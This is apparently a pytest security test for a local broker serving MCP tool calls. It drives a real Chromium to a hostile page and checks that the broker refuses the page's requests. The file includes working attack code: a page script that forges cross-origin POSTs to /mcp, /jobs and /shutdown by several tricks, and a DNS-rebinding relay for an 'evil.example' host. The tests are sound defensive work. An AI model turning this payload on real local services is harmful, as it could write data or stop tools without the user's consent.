"""A page in the user's browser against the listener for HTTP: DNS rebinding, forged requests, from a real Chromium."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.background import Background, BackgroundServer
from tests.browser import Browser
from tests.harness import World, require_engine

pytestmark = [pytest.mark.engine, pytest.mark.timeout(240)]
FLAGS = (
    *("--disable-extensions", "--no-proxy-server"),
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",  # be it an older browser
    "--host-resolver-rules=MAP home.example 127.0.0.1, MAP evil.example 127.0.0.2",
)
FACT = {"subject": "page", "predicate": "was", "object": "here"}
WRITE = json.dumps(
    {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "mempalace_kg_add", "arguments": FACT}}
)
JOB = json.dumps({"kind": "mcp_tool", "payload": {"name": "mempalace_kg_add", "arguments": FACT}})
PAGE = """<!doctype html><iframe name=sink></iframe><script>
const write = %(write)s, job = %(job)s, base = "%(base)s", told = {};
const ask = async (name, path, options) => {
  try {
    const answer = await fetch(base + path, {...options, signal: AbortSignal.timeout(4000)});
    told[name] = answer.status + ":" + (await answer.text()).slice(0, 90);
  } catch (error) { told[name] = error.name === "TimeoutError" ? "silent" : "blocked"; }
};
const json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
(async () => {
  for (const [name, path, body] of [["mcp", "/mcp", write], ["jobs", "/jobs", job], ["shutdown", "/shutdown", "{}"]]) {
    await ask(name + " json", path, {method: "POST", headers: json, body});
    await ask(name + " guessed token", path, {method: "POST", headers: {...json, Authorization: "Bearer 0"}, body});
    await ask(name + " simple", path, {method: "POST", headers: text, body});
    await ask(name + " no-cors", path, {method: "POST", mode: "no-cors", headers: text, body, credentials: "include"});
    const blob = new Blob([body], {type: "application/json"});
    await ask(name + " blob", path, {method: "POST", mode: "no-cors", body: blob});
    navigator.sendBeacon(base + path, new Blob([body], {type: "text/plain"}));
    const form = Object.assign(document.createElement("form"),
      {method: "POST", action: base + path, enctype: "text/plain", target: "sink"});
    form.append(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ', "x": "', value: '"}'}));
    document.body.append(form); form.submit();
  }
  for (const path of ["/healthz", "/health", "/jobs", "/jobs/1", "/mcp"]) {
    await ask("get " + path, path, {});
    new Image().src = base + path;
  }
  await fetch("%(home)s/told", {method: "POST", mode: "no-cors", headers: text, body: JSON.stringify(told)});
})();
</script>"""


class Attacker(BackgroundServer):
    """The attacker's server. Its page attacks `base`, and posts what it was told."""

    def __init__(self, base: str) -> None:
        self.told: dict[str, str] = {}
        self.done = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = attacker.page().encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(204)
                self.end_headers()
                attacker.told = json.loads(body)
                attacker.done.set()

            def log_message(self, *args: Any) -> None:
                """Say nothing."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        super().__init__(server)
        self.port = server.server_port
        self.base = base

    def page(self) -> str:
        """What a visitor gets."""
        home = f"http://home.example:{self.port}"
        return PAGE % {"write": json.dumps(WRITE), "job": json.dumps(JOB), "base": self.base, "home": home}


class Rebound(Background):
    """The attacker's name, on the broker's port: the attacker's server answers there with its page, then the broker.

    What a browser sees when the name's address changes: one origin, two servers. Connections are passed on as bytes.
    """

    def __init__(self, broker: int, attacker: int) -> None:
        self._attacker = attacker
        self._broker = broker
        self._server = socket.create_server(("127.0.0.2", broker))

    def run(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, contextlib.suppress(OSError):
            first = client.recv(1 << 16)
            port = self._attacker if first.startswith(b"GET / ") else self._broker
            with socket.create_connection(("127.0.0.1", port), 10) as there:
                there.sendall(first)
                back = threading.Thread(target=self._copy, args=(there, client), daemon=True)
                back.start()
                self._copy(client, there)
                back.join(10)

    @staticmethod
    def _copy(source: socket.socket, sink: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(1 << 16):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)

    def end(self) -> None:
        self._server.shutdown(socket.SHUT_RDWR)
        self._server.close()


@pytest.fixture
def world() -> Iterator[World]:
    require_engine("newest")
    with World("newest") as world:
        shim = world.shim()
        shim.initialize()
        shim.call_tool("kg_add", subject="heron", predicate="eats", object="fish")
        yield world


def visit(world: World, url: str, attacker: Attacker) -> dict[str, str]:
    """Open a page, and wait until it has told what it found."""
    with Browser(world.root / "browser", *FLAGS) as browser:
        browser.go(url)
        assert attacker.done.wait(100), (world.root / "browser.log").read_text(errors="replace")[-2000:]
    return attacker.told


def check_unharmed(world: World, refused: set[str]) -> None:
    """Nothing was stored, no broker was stopped, and the broker counted what it refused."""
    reader = world.shim()
    reader.initialize()
    assert reader.call_tool("kg_stats")["triples"] == 1
    counts = world.broker().status()["http"]["refused"]
    assert refused <= set(counts), counts
    assert sum(counts.values()) >= 10, counts


def test_a_page_of_another_origin_can_neither_read_nor_write(world: World) -> None:
    before = world.broker().pid
    with Attacker(f"http://127.0.0.1:{world.broker().http_port()}") as attacker:
        told = visit(world, f"http://home.example:{attacker.port}/", attacker)
    assert len(told) == 20, told
    opaque = {name: text for name, text in told.items() if text != "blocked"}
    assert all(text == "0:" for text in opaque.values()), opaque  # no-cors: sent, and nothing of the answer is seen
    check_unharmed(world, {"403"})
    assert world.broker().pid == before


def test_a_name_that_is_bound_to_this_machine_later_gets_refusals(world: World) -> None:
    """DNS rebinding: for the browser it is one origin, so the page may read what it is told."""
    port = world.broker().http_port()
    before = world.broker().pid
    with Attacker(f"http://evil.example:{port}") as attacker, Rebound(port, attacker.port):
        told = visit(world, f"http://evil.example:{port}/", attacker)
    assert len(told) == 20, told
    assert {text.partition(":")[0] for text in told.values()} == {"403"}, told
    assert all("names another server" in text for text in told.values()), told
    check_unharmed(world, {"403"})
    assert world.broker().pid == before
